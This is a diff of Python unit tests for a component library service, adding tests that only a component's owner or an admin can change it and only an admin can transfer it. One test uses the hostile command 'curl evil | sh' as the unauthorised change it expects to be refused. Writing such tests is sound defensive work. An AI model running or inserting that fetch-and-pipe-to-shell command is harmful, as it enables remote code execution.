@@ -7,10 +7,10 @@ import pytest
 
 from contracts.events import AppDeleted, AppSpecCreated, make_event
 from contracts.spec import AppSpec
-from services.kit.errors import Conflict, NotFound
+from services.kit.errors import Conflict, Forbidden, NotFound
 from services.kit.messagebus import MessageBus
 from services.library import handlers
-from services.library.commands import RegisterComponent, SeedCatalog, UpdateComponent
+from services.library.commands import RegisterComponent, SeedCatalog, TransferComponent, UpdateComponent
 from services.library.schemas import ComponentRegistration
 from tests.unit.library.fakes import LibraryState, unit_of_works
 
@@ -61,7 +61,7 @@ async def test_updating_a_component_writes_the_next_version_keeps_the_previous_a
         bus, state, uows):
     cid = await bus.handle(RegisterComponent(registration(), USER))
 
-    await bus.handle(UpdateComponent(cid, {"description": "faster"}, "lee"))
+    await bus.handle(UpdateComponent(cid, {"description": "faster"}, "lee", is_admin=True))
 
     assert [(v.snapshot.version, v.changed, v.created_by) for v in state.versions[cid]] == [
         ("1.0.0", [], USER), ("1.0.1", ["description"], "lee")]
@@ -96,6 +96,7 @@ async def test_seeding_an_empty_library_registers_every_entry_as_the_seed_user_u
 
     assert count == 2 and state.locked_for_seeding == 1
     assert {v.created_by for versions in state.versions.values() for v in versions} == {handlers.SEED_USER}
+    assert set(state.owners.values()) == {None}  # the platform's own: only an admin changes them
     assert uows.types() == ["component.registered", "component.registered"]
 
 
@@ -153,3 +154,43 @@ async def test_a_deleted_app_leaves_used_in_and_a_spec_from_before_the_deletion_
     await bus.handle_event(app_deleted("APP-AAAAAA", T0 + timedelta(minutes=2)))
     await bus.handle_event(spec_created(spec("APP-AAAAAA", T0 + timedelta(minutes=1), cid)))
     assert state.used_in(cid) == []
+
+
+# ---------------------------------------------------------------- ownership
+
+async def test_a_component_is_owned_by_whoever_registered_it(bus, state):
+    cid = await bus.handle(RegisterComponent(registration(), USER))
+    assert state.owners[cid] == USER
+
+
+async def test_nobody_but_the_owner_or_an_admin_changes_a_component_and_the_refusal_names_the_owner(bus, state, uows):
+    cid = await bus.handle(RegisterComponent(registration(command=["python", "-m", "components.env_simulator"]), USER))
+    with pytest.raises(Forbidden, match=f"component {cid} belongs to 'kim'; only its owner or an admin may change it"):
+        await bus.handle(UpdateComponent(cid, {"command": ["sh", "-c", "curl evil | sh"]}, "lee"))
+    assert state.components[cid].command == ["python", "-m", "components.env_simulator"]
+    assert [v.snapshot.version for v in state.versions[cid]] == ["1.0.0"] and uows.types() == ["component.registered"]
+
+    await bus.handle(UpdateComponent(cid, {"description": "by the owner"}, USER))
+    await bus.handle(UpdateComponent(cid, {"description": "by an admin"}, "admin", is_admin=True))
+    assert [v.created_by for v in state.versions[cid]] == [USER, USER, "admin"]
+
+
+async def test_a_seeded_component_is_changed_by_an_admin_only(bus, state):
+    await bus.handle(SeedCatalog([registration("seeded")]))
+    with pytest.raises(Forbidden, match="component CL-REF-001 belongs to the platform"):
+        await bus.handle(UpdateComponent("CL-REF-001", {"description": "mine"}, handlers.SEED_USER))
+    await bus.handle(UpdateComponent("CL-REF-001", {"description": "curated"}, "admin", is_admin=True))
+
+
+async def test_an_admin_transfers_a_component_without_a_new_version_and_only_an_admin_may(bus, state, uows):
+    cid = await bus.handle(RegisterComponent(registration(), USER))
+    for user in (USER, "lee"):
+        with pytest.raises(Forbidden, match=f"only an admin may transfer component {cid}"):
+            await bus.handle(TransferComponent(cid, "lee", user))
+    await bus.handle(TransferComponent(cid, "lee", "admin", is_admin=True))
+
+    assert state.owners[cid] == "lee" and state.transfers == [(cid, USER, "lee", "admin")]
+    assert len(state.versions[cid]) == 1 and uows.types() == ["component.registered"]
+    await bus.handle(UpdateComponent(cid, {"description": "lee's now"}, "lee"))
+    with pytest.raises(Forbidden, match="belongs to 'lee'"):
+        await bus.handle(UpdateComponent(cid, {"description": "mine again"}, USER))
